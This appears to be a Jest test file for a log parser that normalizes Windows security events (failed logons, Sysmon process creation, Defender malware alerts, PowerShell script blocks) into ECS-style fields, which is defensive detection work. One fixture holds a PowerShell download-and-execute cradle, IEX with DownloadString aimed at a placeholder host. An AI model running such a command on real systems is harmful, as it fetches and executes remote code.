import { parse } from './index';

const ctx = { receivedAt: new Date('2026-03-15T04:00:00Z') };
const p = (input: Record<string, unknown>) => parse(input, ctx) as Record<string, any>;

describe('Windows events', () => {
  test('Winlogbeat 4625 failed logon: target user, source ip, logon type, outcome', () => {
    const ev = p({
      '@timestamp': '2026-03-14T02:00:05.000Z',
      winlog: {
        channel: 'Security', event_id: 4625, record_id: 99812, provider_name: 'Microsoft-Windows-Security-Auditing', computer_name: 'DC01.so-tttt.local',
        keywords: ['Audit Failure'], time_created: '2026-03-14T02:00:04.512Z',
        event_data: { SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', TargetUserName: 'administrator', TargetDomainName: 'SO-TTTT', LogonType: '3', IpAddress: '198.51.100.31', IpPort: '51000', Status: '0xc000006d', SubStatus: '0xc000006a', WorkstationName: 'KALI' },
      },
      organization: { id: 'spoofed' },
    });
    expect(ev['@timestamp']).toBe('2026-03-14T02:00:04.512Z');
    expect(ev.event).toMatchObject({ code: '4625', action: 'logon-failed', category: ['authentication'], type: ['start'], outcome: 'failure', provider: 'Microsoft-Windows-Security-Auditing' });
    expect(ev.winlog).toMatchObject({ event_id: '4625', record_id: '99812', logon: { type: 'Network', failure: { status: 'This is either due to a bad username or authentication information', sub_status: 'User logon with misspelled or bad password' } } });
    expect(ev.winlog.event_data).toMatchObject({ Status: '0xc000006d', SubStatus: '0xc000006a' });
    expect(ev.winlog.event_data.TargetUserName).toBe('administrator');
    expect(ev.user).toMatchObject({ name: 'administrator', domain: 'SO-TTTT' });
    expect(ev.source).toMatchObject({ ip: '198.51.100.31', port: 51000, domain: 'KALI' });
    expect(ev.host.name).toBe('DC01.so-tttt.local');
    expect(ev.organization).toBeUndefined();
  });

  test('NXLog-flattened Sysmon 1 becomes the same shape with process fields and hashes', () => {
    const ev = p({
      EventTime: '2026-03-14 09:10:11', Hostname: 'WS-042.so-tttt.local', EventID: 1, SourceName: 'Microsoft-Windows-Sysmon', Channel: 'Microsoft-Windows-Sysmon/Operational',
      RecordNumber: 5521, Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: 'rundll32.exe C:\\Users\\Public\\x.dll,Start', ProcessId: '4321',
      ParentImage: 'C:\\Windows\\explorer.exe', ParentProcessId: '1200', User: 'SO-TTTT\\lan', Hashes: 'SHA256=AB12,MD5=CD34,IMPHASH=EF56', TimeCreated: '2026-03-14 02:10:11.250',
    });
    expect(ev.winlog).toMatchObject({ channel: 'Microsoft-Windows-Sysmon/Operational', event_id: '1', record_id: '5521', event_data: { Image: 'C:\\Windows\\System32\\rundll32.exe' } });
    expect(ev.event).toMatchObject({ action: 'process-created', category: ['process'], type: ['start'] });
    expect(ev.process).toMatchObject({ name: 'rundll32.exe', pid: 4321, command_line: 'rundll32.exe C:\\Users\\Public\\x.dll,Start', parent: { name: 'explorer.exe', pid: 1200 }, hash: { sha256: 'ab12', md5: 'cd34' } });
    expect(ev.user).toEqual({ domain: 'SO-TTTT', name: 'lan' });
    expect(ev.related.hash).toEqual(['ab12', 'cd34', 'ef56']);
    expect(ev.process.pe.imphash).toBe('ef56');
  });

  test('Defender 1116 is a malware alert with the threat, file and user', () => {
    const ev = p({
      winlog: { channel: 'Microsoft-Windows-Windows Defender/Operational', event_id: 1116, provider_name: 'Microsoft-Windows-Windows Defender', computer_name: 'WS-007', time_created: '2026-03-14T03:00:00Z',
        event_data: { 'Threat Name': 'Trojan:Win32/Emotet.RPX!MTB', 'Category Name': 'Trojan', Path: 'file:_C:\\Users\\mai\\Downloads\\hoadon.doc;process:_pid:4411', 'Detection User': 'SO-TTTT\\mai', 'Process Name': 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE' } },
    });
    expect(ev.event).toMatchObject({ kind: 'alert', category: ['malware'], action: 'malware-detected' });
    expect(ev.rule.name).toBe('Trojan:Win32/Emotet.RPX!MTB');
    expect(ev.threat.software).toEqual({ name: 'Trojan:Win32/Emotet.RPX!MTB', type: 'Trojan' });
    expect(ev.file).toEqual({ path: 'C:\\Users\\mai\\Downloads\\hoadon.doc', name: 'hoadon.doc' });
    expect(ev.user).toEqual({ domain: 'SO-TTTT', name: 'mai' });
  });

  test('PowerShell 4104 keeps the script block text', () => {
    const ev = p({ winlog: { channel: 'Microsoft-Windows-PowerShell/Operational', event_id: 4104, provider_name: 'Microsoft-Windows-PowerShell', computer_name: 'WS-1', event_data: { ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://x")', ScriptBlockId: 'abc', MessageNumber: '1', MessageTotal: '1' } } });
    expect(ev.powershell.file.script_block_text).toMatch(/DownloadString/);
    expect(ev.event).toMatchObject({ action: 'execute-script-block', category: ['process'] });
  });

  test('a lower-cased NXLog channel is spelled as Windows does', () => {
    const ev = p({ EventID: 4624, Channel: 'security', Hostname: 'DC01', SourceName: 'Microsoft-Windows-Security-Auditing', TargetUserName: 'lan', LogonType: '10', IpAddress: '10.0.0.9', EventTime: '2026-03-14 01:00:00' });
    expect(ev.winlog.channel).toBe('Security');
    expect(ev.event).toMatchObject({ action: 'logged-in', category: ['authentication'] });
    expect(ev.winlog.logon.type).toBe('RemoteInteractive');
    expect(ev.source.ip).toBe('10.0.0.9');
  });

  test('NXLog local EventTime is placed in UTC by the shipper\'s own stamps, else the source zone', () => {
    const stamped = p({ EventID: 4688, Channel: 'Security', Hostname: 'WS-1', EventTime: '2020-08-05 02:09:26', EventReceivedTime: '2020-08-05 02:09:29', '@timestamp': '2020-08-05T06:09:29.626Z', NewProcessName: 'C:\\Windows\\System32\\cmd.exe' });
    expect(stamped['@timestamp']).toBe('2020-08-05T06:09:26.000Z');
    expect(stamped.process.name).toBe('cmd.exe');
    const bare = parse({ EventID: 4688, Channel: 'Security', Hostname: 'WS-1', EventTime: '2026-03-14 09:00:00' }, { ...ctx, timezone: 'Asia/Ho_Chi_Minh' });
    expect(bare['@timestamp']).toBe('2026-03-14T02:00:00.000Z');
  });

  test.each([
    ['5136', 'directory-service-object-modified', ['iam', 'configuration'], ['admin', 'change']],
    ['5141', 'directory-service-object-deleted', ['iam', 'configuration'], ['admin', 'deletion']],
    ['4674', 'privileged-operation', ['iam'], ['admin']],
    ['4707', 'domain-trust-removed', ['configuration'], ['deletion']],
    ['4887', 'certificate-services-approved-certificate-request', ['iam'], ['creation']],
    ['4905', 'security-event-source-removed', ['iam', 'configuration'], ['admin', 'deletion']],
  ])('Security %s is categorised (%s) and names a Windows host', (code, action, category, type) => {
    const ev = p({
      winlog: { channel: 'Security', event_id: Number(code), provider_name: 'Microsoft-Windows-Security-Auditing', computer_name: 'DC02.so-tc.local', keywords: ['Audit Success'], time_created: '2026-03-14T03:00:00.000Z', event_data: { SubjectUserName: 'qtv' } },
      event: { action: 'Directory Service Changes' },
    });
    expect(ev.event).toMatchObject({ code, action, category, type, outcome: 'success' });
    expect(ev.host.os).toMatchObject({ type: 'windows', family: 'windows' });
  });
});
